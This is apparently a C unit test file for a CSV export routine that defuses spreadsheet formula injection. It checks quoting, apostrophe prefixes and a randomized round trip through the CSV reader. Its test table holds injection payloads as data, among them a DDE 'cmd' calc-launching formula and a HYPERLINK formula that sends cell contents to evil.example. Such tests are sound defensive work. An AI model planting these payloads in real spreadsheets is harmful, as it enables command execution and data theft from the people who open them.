/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Cells of CSV: what a spreadsheet would run is made harmless, all other text comes back as it was.
 */

#include "export/poise-export-csv-cell.h"

#include "import/poise-csv.h"

#include <string.h>

static void
test_table (void)
{
  static const struct
  {
    const char *text;
    const char *cell;
  } cases[] = {
    { "", "" },
    { "Debate", "Debate" },
    { "a, b", "\"a, b\"" },
    { "a; =b", "\"a; =b\"" },
    { "say \"no\"", "\"say \"\"no\"\"\"" },
    { "two\nlines", "\"two\nlines\"" },
    { "a\tb", "\"a\tb\"" },
    { " a ", "\" a \"" },
    { "a=b+c-d@e", "a=b+c-d@e" },
    { "'quoted'", "'quoted'" },
    { "Größe – 教育", "Größe – 教育" },

    { "=1+1", "'=1+1" },
    { "+1", "'+1" },
    { "-1", "'-1" },
    { "@SUM(A1)", "'@SUM(A1)" },
    { "=", "'=" },
    { "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
    { "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\"" },
    { "\t=1", "\"'\t=1\"" },
    { "\r=1", "\"'\r=1\"" },
    { "\n=1", "\"'\n=1\"" },
    { "\tDebate", "\"'\tDebate\"" },
    { "\rDebate", "\"'\rDebate\"" },
    { "\nDebate", "\"'\nDebate\"" },
    /* What a program may strip from the beginning */
    { " =1", "' =1" },
    { "\u00a0=1", "'\u00a0=1" },
    { "\ufeff=1", "'\ufeff=1" },
    { "\u200b@x", "'\u200b@x" },
    { "\x01=1", "'\x01=1" },
    /* Wide signs */
    { "\uff1d1", "'\uff1d1" },
    { "\uff0b1", "'\uff0b1" },
    { "\uff0d1", "'\uff0d1" },
    { "\uff20x", "'\uff20x" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *cell = poise_export_csv_cell (cases[i].text);

      g_assert_cmpstr (cell, ==, cases[i].cell);
    }
}

static char *
random_text (GRand *random)
{
  static const char *const pieces[] = { "=", "+", "-", "@", "\t", "\r", "\n", " ", ",", ";", "\"", "'", "a", "é", "教" };
  GString *text = g_string_new (NULL);

  for (int n = g_rand_int_range (random, 0, 8); n > 0; n--)
    g_string_append (text, pieces[g_rand_int_range (random, 0, G_N_ELEMENTS (pieces))]);
  return g_string_free (text, FALSE);
}

/* Read as CSV, each cell of a row is the text that was written, but for the apostrophe; and none begins a formula. */
static void
test_random (void)
{
  g_autoptr (GRand) random = g_rand_new_with_seed (1);

  for (guint i = 0; i < 2000; i++)
    {
      g_autofree char *text = random_text (random);
      g_autofree char *cell = poise_export_csv_cell (text);
      g_autofree char *row = g_strconcat ("head,", cell, ",tail\r\n", NULL);
      g_autoptr (GBytes) bytes = g_bytes_new (row, strlen (row));
      g_autoptr (PoiseCsv) csv = poise_csv_read (bytes, NULL);
      const char *read;

      g_assert_nonnull (csv);
      g_assert_cmpuint (csv->rows->len, ==, 1);
      g_assert_cmpuint (((PoiseCsvRow *) g_ptr_array_index (csv->rows, 0))->cells->len, ==, 3);
      read = poise_csv_row_get_cell (g_ptr_array_index (csv->rows, 0), 1);
      g_assert_true (*read == '\0' || strchr ("=+-@\t\r\n", *read) == NULL);
      g_assert_cmpstr (*read == '\'' && *text != '\'' ? read + 1 : read, ==, text);
    }
}

int
main (int argc, char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/export/csv-cell/table", test_table);
  g_test_add_func ("/export/csv-cell/random", test_random);
  return g_test_run ();
}
